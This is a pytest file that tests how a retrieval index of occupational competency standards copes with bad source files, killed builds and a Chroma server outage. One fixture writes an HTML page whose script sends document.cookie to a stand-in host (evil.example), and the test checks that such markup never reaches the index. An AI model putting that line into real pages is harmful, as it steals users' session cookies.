"""Faults: bad source files, builds that die part-way, a Chroma server that goes away.

Fast (default run):
* every kind of bad source file is reported with its name and reason, every good document is
  indexed, nothing indexed before is lost;
* a build interrupted at each step (in-process) leaves the last good index serving.

Slow (`make test-slow` or `pytest -m slow tests/test_faults.py`):
* a real `python -m retrieval ingest` process killed with SIGKILL at several points; the next
  start serves the last good index (or the new one, once it was swapped in), a fresh process
  starts without error, and the next ingest completes and cleans up.

Integration (starts `chroma run` on 127.0.0.1):
* the Chroma server killed mid-session: answers go on (lexical) with a notice; restarted on the
  same port and --path, dense search works again without restarting the process.
"""

import json
import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

import corpus.load as load_module
from corpus import load_corpus
from corpus.load import MAX_FILE_BYTES
from retrieval.index import IndexManager
from retrieval.search import HybridRetriever
from retrieval.store import StoreUnavailable, VectorStore

from .conftest import SEEDS_DIR

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).parent / "fixtures"
UNIT_FILE = "000_1f54b41cf6dc5018.txt"  # BHR5R0061v2, 7 chunks
MANAGER_FILE = "003_e487c5732aa24f2d.txt"  # BHR1212-002v3 (訓練經理)


@pytest.fixture
def sources(tmp_path):
    folder = tmp_path / "sources"
    shutil.copytree(SEEDS_DIR, folder)
    return folder


def _assert_serving(manager: IndexManager, embedder, build_id: str | None = None):
    """The current build is complete and answers: manifest, chunks, vectors and BM25 agree."""
    if build_id:
        assert manager.current_id() == build_id
    loaded = manager.open()
    assert loaded.store.count() == len(loaded.chunks) == loaded.manifest.chunk_count
    assert len(loaded.lexical.ids) == len(loaded.chunks)
    hits = HybridRetriever(loaded, embedder).search("訓練經理的工作任務", k=3).hits
    assert hits and hits[0].chunk.doc_code == "BHR1212-002v3"
    return loaded


# --- bad source files ---------------------------------------------------------------------------


def test_bad_files_are_reported_and_nothing_indexed_is_lost(tmp_path, sources, embedder, embedding_cache,
                                                           monkeypatch):
    manager = IndexManager(tmp_path / "index")
    manager.ingest(embedder, sources_dir=sources, cache=embedding_cache)
    before = {c.id for c in manager.open().chunks}

    marketing = (FIXTURES / "tw_standard_marketing.txt").read_text(encoding="utf-8")
    (sources / "empty.txt").write_bytes(b"")
    (sources / "big5_marketing.txt").write_bytes(marketing.encode("cp950"))
    (sources / "photo.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40)
    (sources / "page.html").write_text(
        "<html><head><script>fetch('https://evil.example/?c=' + document.cookie)</script></head>"
        "<body><h1>職涯講座</h1><p>歡迎參加。</p></body></html>", encoding="utf-8")
    with open(sources / "huge.txt", "wb") as out:  # 50 MB that looks like a standard
        line = "職能基準代碼\tBZZ0000-001v1\nT1.1 測試\t".encode()
        out.write(line * (50 * 1024 * 1024 // len(line) + 1))
    shutil.copy2(sources / MANAGER_FILE, sources / "zz_copy_of_003.txt")
    (sources / "notes.md").write_text("# 會議紀錄\n\n下週討論訓練經理的職能基準。\n", encoding="utf-8")
    (sources / UNIT_FILE).write_bytes(b"   \n")  # an indexed file that breaks: its chunks stay

    parsed = []
    real_parse_text = load_module.parse_text
    monkeypatch.setattr(load_module, "parse_text",
                        lambda text, source: parsed.append(source) or real_parse_text(text, source))
    summary = manager.ingest(embedder, sources_dir=sources, cache=embedding_cache)

    problems = {p.file: p.reason for p in summary.problems}
    assert problems.keys() == {"empty.txt", "photo.txt", "page.html", "huge.txt", "zz_copy_of_003.txt", "notes.md",
                               UNIT_FILE}
    assert problems["empty.txt"] == problems[UNIT_FILE] == "empty file"
    assert "binary" in problems["photo.txt"]
    assert "unknown format" in problems["page.html"] and "unknown format" in problems["notes.md"]
    assert "MB" in problems["huge.txt"] and "limit" in problems["huge.txt"]
    assert f"already defined by {MANAGER_FILE}" in problems["zz_copy_of_003.txt"]
    assert "huge.txt" not in parsed  # rejected on its size, never handed to a parser
    assert os.path.getsize(sources / "huge.txt") > MAX_FILE_BYTES
    described = summary.describe()
    assert all(f"✗ {name}: " in described for name in problems)
    assert summary.kept == (UNIT_FILE,)

    loaded = _assert_serving(manager, embedder, summary.build_id)
    assert before <= {c.id for c in loaded.chunks}  # nothing indexed before is lost
    assert any(c.doc_code == "BMK2431-002v2" for c in loaded.chunks)  # the Big5 document is decoded and indexed
    assert any(c.doc_code == "BHR5R0061v2" for c in loaded.chunks)
    assert {p[0] for p in loaded.manifest.problems} == problems.keys()
    hits = HybridRetriever(loaded, embedder).search("行銷企劃人員的工作任務", k=3).hits
    assert hits[0].chunk.doc_code == "BMK2431-002v2"


def test_markup_that_runs_never_reaches_the_index(tmp_path):
    folder = tmp_path / "one"
    folder.mkdir()
    shutil.copy2(FIXTURES / "poisoned_standard.txt", folder / "poisoned.txt")
    from retrieval.chunks import build_chunks

    text = " ".join(c.text for c in build_chunks(load_corpus(folder)))
    assert "<script" not in text and "document.cookie" not in text and "<img" not in text


# --- builds interrupted in-process ------------------------------------------------------------------------


class Killed(BaseException):
    """Stands for the process dying: nothing catches it on the way up."""


def _interrupt(point: str, monkeypatch):
    import retrieval.index as index_module
    from retrieval.lexical import LexicalIndex

    if point == "embedding":
        real = index_module.embed_with_cache

        def embed(embedder, texts, cache, **kwargs):
            real(embedder, texts[: len(texts) // 2], cache)
            raise Killed(point)

        monkeypatch.setattr(index_module, "embed_with_cache", embed)
    elif point == "chroma-writes":
        real_add = VectorStore.add

        def add(self, ids, vectors, batch_size=2000):
            real_add(self, ids[: len(ids) // 2], vectors[: len(ids) // 2])
            raise Killed(point)

        monkeypatch.setattr(VectorStore, "add", add)
    elif point == "bm25":
        def save(self, folder):
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "ids.txt").write_text("partial", encoding="utf-8")
            raise Killed(point)

        monkeypatch.setattr(LexicalIndex, "save", save)
    else:  # "manifest" or "CURRENT": the file is half written when the process dies
        real_write = index_module._write_atomically
        target = "manifest.json" if point == "manifest" else "CURRENT"

        def write(path, text):
            if path.name == target:
                path.with_name(path.name + f".tmp-{os.getpid()}").write_text(text[: len(text) // 2])
                raise Killed(point)
            real_write(path, text)

        monkeypatch.setattr(index_module, "_write_atomically", write)


@pytest.mark.parametrize("point", ["embedding", "chroma-writes", "bm25", "manifest", "CURRENT"])
def test_a_build_interrupted_at_each_step_leaves_the_last_good_index(point, tmp_path, sources, embedder,
                                                                     embedding_cache, monkeypatch):
    manager = IndexManager(tmp_path / "index")
    good = manager.ingest(embedder, sources_dir=sources, cache=embedding_cache).build_id
    (sources / UNIT_FILE).unlink()
    with monkeypatch.context() as patch:
        _interrupt(point, patch)
        with pytest.raises(Killed):
            manager.ingest(embedder, sources_dir=sources, cache=embedding_cache)
    assert len(list(manager.builds.iterdir())) == 2
    loaded = _assert_serving(manager, embedder, good)
    assert any(c.doc_code == "BHR5R0061v2" for c in loaded.chunks)  # still the old content
    summary = manager.ingest(embedder, sources_dir=sources, cache=embedding_cache)
    assert summary.rebuilt and summary.removed == 7
    _assert_serving(manager, embedder, summary.build_id)
    assert all(manager._complete(p.name) for p in manager.builds.iterdir())


# --- kill -9 of a real ingest process ----------------------------------------------------------------------

# Runs `python -m retrieval ingest` (retrieval.cli.main) with a pause at one point of the build, announced by a
# marker file, so that the test can SIGKILL it exactly there. Only the test's process is patched.
_PAUSED_INGEST = r"""
import os, sys, time
from pathlib import Path
import retrieval.index as ix
from retrieval.lexical import LexicalIndex
from retrieval.store import VectorStore

point, marker = os.environ["KILL_POINT"], Path(os.environ["KILL_MARKER"])

def pause():
    marker.write_text(str(os.getpid()))
    time.sleep(120)

if point == "chroma-writes":
    real_add = VectorStore.add
    def add(self, ids, vectors, batch_size=2000):
        real_add(self, ids[: len(ids) // 2], vectors[: len(ids) // 2])
        pause()
    VectorStore.add = add
elif point == "bm25":
    real_save = LexicalIndex.save
    def save(self, folder):
        pause()
    LexicalIndex.save = save
elif point == "before-swap":
    real_write = ix._write_atomically
    def write(path, text):
        if path.name == "CURRENT":
            pause()
        real_write(path, text)
    ix._write_atomically = write
elif point == "cleanup":
    real_rmtree = ix.shutil.rmtree
    def rmtree(path, *args, **kwargs):
        for child in sorted(Path(path).rglob("*"))[:3]:  # part of the old build is gone
            if child.is_file():
                child.unlink()
        pause()
    ix.shutil.rmtree = rmtree

from retrieval.cli import main
sys.exit(main(["ingest"]))
"""


@pytest.fixture(scope="module")
def warm_cache(tmp_path_factory, embedder, embedding_cache, cache_path):
    """A private cache holding the vectors of the seeds and of the marketing fixture."""
    folder = tmp_path_factory.mktemp("warm-cache")
    path = folder / "cache.sqlite"
    shutil.copy2(cache_path, path)
    from retrieval.embeddings import EmbeddingCache

    cache = EmbeddingCache(path)
    sources = folder / "sources"
    sources.mkdir()
    for name in (UNIT_FILE, MANAGER_FILE):
        shutil.copy2(SEEDS_DIR / name, sources / name)
    shutil.copy2(FIXTURES / "tw_standard_marketing.txt", sources / "marketing.txt")
    IndexManager(folder / "index").ingest(embedder, sources_dir=sources, cache=cache)
    cache.close()
    return path


def _env(tmp_path: Path, cache: Path, **extra) -> dict:
    return {**os.environ, "PYTHONPATH": str(ROOT), "OMP_NUM_THREADS": "1", "ANONYMIZED_TELEMETRY": "False",
            "HF_HUB_OFFLINE": "1", "CAREER_DATA_DIR": str(tmp_path / "data"),
            "CAREER_SOURCES_DIR": str(tmp_path / "sources"), "CAREER_EMBEDDING_CACHE": str(cache),
            "CAREER_CHROMA_HOST": "", **extra}


def _wait_for(predicate, timeout: float, what: str):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.05)
    pytest.fail(f"timed out waiting for {what}")


def _kill(process: subprocess.Popen):
    os.kill(process.pid, signal.SIGKILL)
    assert process.wait(timeout=30) == -signal.SIGKILL


@pytest.fixture
def killable(tmp_path, warm_cache, embedder):
    """A data folder serving a good index of two documents; the sources now have a third."""
    cache = tmp_path / "cache.sqlite"
    shutil.copy2(warm_cache, cache)
    sources = tmp_path / "sources"
    sources.mkdir()
    for name in (UNIT_FILE, MANAGER_FILE):
        shutil.copy2(SEEDS_DIR / name, sources / name)
    from retrieval.embeddings import EmbeddingCache

    manager = IndexManager(tmp_path / "data" / "index")
    with_cache = EmbeddingCache(cache)
    first = manager.ingest(embedder, sources_dir=sources, cache=with_cache).build_id
    # a second good build, so that a later build has an old one to clean up
    (sources / "marketing.txt").write_text((FIXTURES / "tw_standard_marketing.txt").read_text(encoding="utf-8"),
                                           encoding="utf-8")
    good = manager.ingest(embedder, sources_dir=sources, cache=with_cache).build_id
    with_cache.close()
    assert first != good
    (sources / UNIT_FILE).unlink()  # the change the killed build was making
    return manager, good, cache


def _after_the_kill(manager: IndexManager, embedder, tmp_path: Path, cache: Path, serving: str):
    # the next start serves a complete index …
    loaded = _assert_serving(manager, embedder, serving)
    # … and a fresh process starts and answers
    search = subprocess.run([sys.executable, "-m", "retrieval", "search", "訓練經理的工作任務", "--json"], cwd=ROOT,
                            env=_env(tmp_path, cache), capture_output=True, text=True, timeout=120, check=False)
    assert search.returncode == 0, search.stderr[-2000:]
    assert json.loads(search.stdout)["hits"][0]["codes"][0].startswith("BHR1212-002v3")
    # … and the next ingest completes, serves the new content and leaves only complete builds
    # (killed after the swap, the index is up to date: a forced rebuild shows the half-removed old build goes)
    command = [sys.executable, "-m", "retrieval", "ingest"] + (["--rebuild"] if serving is None else [])
    ingest = subprocess.run(command, cwd=ROOT, env=_env(tmp_path, cache), capture_output=True, text=True, timeout=300,
                            check=False)
    assert ingest.returncode == 0, ingest.stderr[-2000:]
    final = _assert_serving(manager, embedder)
    assert not any(c.doc_code == "BHR5R0061v2" for c in final.chunks)
    assert all(manager._complete(p.name) for p in manager.builds.iterdir())
    assert len(list(manager.builds.iterdir())) <= 2
    assert sqlite3.connect(cache).execute("PRAGMA integrity_check").fetchone() == ("ok",)
    return loaded


@pytest.mark.slow
def test_kill_9_during_embedding(tmp_path, killable, embedder):
    manager, good, _ = killable
    empty_cache = tmp_path / "empty-cache.sqlite"  # nothing cached: the build spends its time embedding
    before = {p.name for p in manager.builds.iterdir()}
    process = subprocess.Popen([sys.executable, "-m", "retrieval", "ingest"], cwd=ROOT,
                               env=_env(tmp_path, empty_cache), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    _wait_for(lambda: {p.name for p in manager.builds.iterdir()} - before, 120, "the build folder")
    _wait_for(lambda: empty_cache.exists() and _cached(empty_cache) > 0, 120, "the first embedded batch")
    (new,) = {p.name for p in manager.builds.iterdir()} - before
    _kill(process)
    assert not (manager.builds / new / "manifest.json").exists()
    assert sqlite3.connect(empty_cache).execute("PRAGMA integrity_check").fetchone() == ("ok",)
    _after_the_kill(manager, embedder, tmp_path, empty_cache, serving=good)


def _cached(path: Path) -> int:
    try:
        return sqlite3.connect(path).execute("SELECT count(*) FROM vectors").fetchone()[0]
    except sqlite3.Error:
        return 0


@pytest.mark.slow
@pytest.mark.parametrize("point, swapped", [("chroma-writes", False), ("bm25", False), ("before-swap", False),
                                            ("cleanup", True)])
def test_kill_9_at_a_point_of_the_build(point, swapped, tmp_path, killable, embedder):
    manager, good, cache = killable
    marker, log = tmp_path / "paused", tmp_path / "ingest.log"
    with open(log, "wb") as stderr:
        process = subprocess.Popen([sys.executable, "-c", _PAUSED_INGEST], cwd=ROOT,
                                   env=_env(tmp_path, cache, KILL_POINT=point, KILL_MARKER=str(marker)),
                                   stdout=subprocess.DEVNULL, stderr=stderr)
    try:
        _wait_for(lambda: marker.exists() or process.poll() is not None, 120, f"the build to reach {point}")
        assert marker.exists(), log.read_text(errors="replace")[-2000:]
    except BaseException:
        process.kill()
        raise
    _kill(process)
    if swapped:  # killed after the swap: the new build serves
        assert manager.current_id() != good
    _after_the_kill(manager, embedder, tmp_path, cache, serving=None if swapped else good)


# --- the Chroma server going away -------------------------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class ChromaServer:
    """`chroma run` on 127.0.0.1, restartable on the same port and --path."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.port = _free_port()
        self.process = None

    def start(self):
        chroma = Path(sys.executable).with_name("chroma")
        self.process = subprocess.Popen(
            [str(chroma), "run", "--path", str(self.path), "--host", "127.0.0.1", "--port", str(self.port)],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env={**os.environ, "ANONYMIZED_TELEMETRY": "False"},
        )
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=0.5).close()
                return
            except OSError:
                time.sleep(0.1)
        self.stop()
        pytest.fail("chroma run did not start")

    def kill(self):
        if self.process and self.process.poll() is None:
            self.process.send_signal(signal.SIGKILL)
            self.process.wait(timeout=10)

    def stop(self):
        if self.process and self.process.poll() is None:
            self.process.terminate()
            self.process.wait(timeout=10)


@pytest.fixture
def served_knowledge(tmp_path, corpus, embedder, embedding_cache):
    from retrieval.answer import Knowledge
    from retrieval.embeddings import embed_with_cache

    server = ChromaServer(tmp_path / "chroma-server")
    server.start()
    manager = IndexManager(tmp_path / "index", chroma_host="127.0.0.1", chroma_port=server.port)
    manager.ingest(embedder, corpus=corpus, cache=embedding_cache)
    knowledge = Knowledge(HybridRetriever(manager.open(), embedder), corpus,
                          embed=lambda texts: embed_with_cache(embedder, texts, embedding_cache)[0])
    yield server, knowledge
    server.stop()


def _outage_session(server: ChromaServer, knowledge):
    from retrieval.answer import answer

    question = "訓練經理需要哪些技能？"
    up = answer(question, [], knowledge=knowledge)
    assert not up.abstained and not any("向量檢索" in n for n in up.notices)
    assert knowledge.retriever.search(question, k=5, mode="dense").hits

    server.kill()
    for q in (question, "人才管理經理需要哪些能力單元？", "What skills does a training manager need?"):
        down = answer(q, [], knowledge=knowledge)  # no exception: the answer rests on keyword search
        assert not down.abstained and down.citations
        assert any("向量檢索暫時無法使用" in n or "Vector search is unavailable" in n for n in down.notices)
    assert knowledge.retriever.search(question, k=5).degraded  # a clear reason, naming the server
    assert f"127.0.0.1:{server.port}" in knowledge.retriever.search(question, k=5).degraded

    server.start()  # same port, same --path
    again = answer(question, [], knowledge=knowledge)
    assert not any("向量檢索" in n for n in again.notices)
    back = knowledge.retriever.search(question, k=5, mode="dense")
    assert not back.degraded and back.hits and back.hits[0].dense is not None


@pytest.mark.integration
def test_the_chroma_server_going_away_mid_session(served_knowledge):
    _outage_session(*served_knowledge)


@pytest.mark.integration
def test_a_server_down_at_start_is_a_clear_error(tmp_path, corpus, embedder, embedding_cache):
    server = ChromaServer(tmp_path / "chroma-server")
    server.start()
    manager = IndexManager(tmp_path / "index", chroma_host="127.0.0.1", chroma_port=server.port)
    manager.ingest(embedder, corpus=corpus, cache=embedding_cache)
    server.kill()
    with pytest.raises(StoreUnavailable, match=f"127.0.0.1:{server.port}"):
        manager.open()
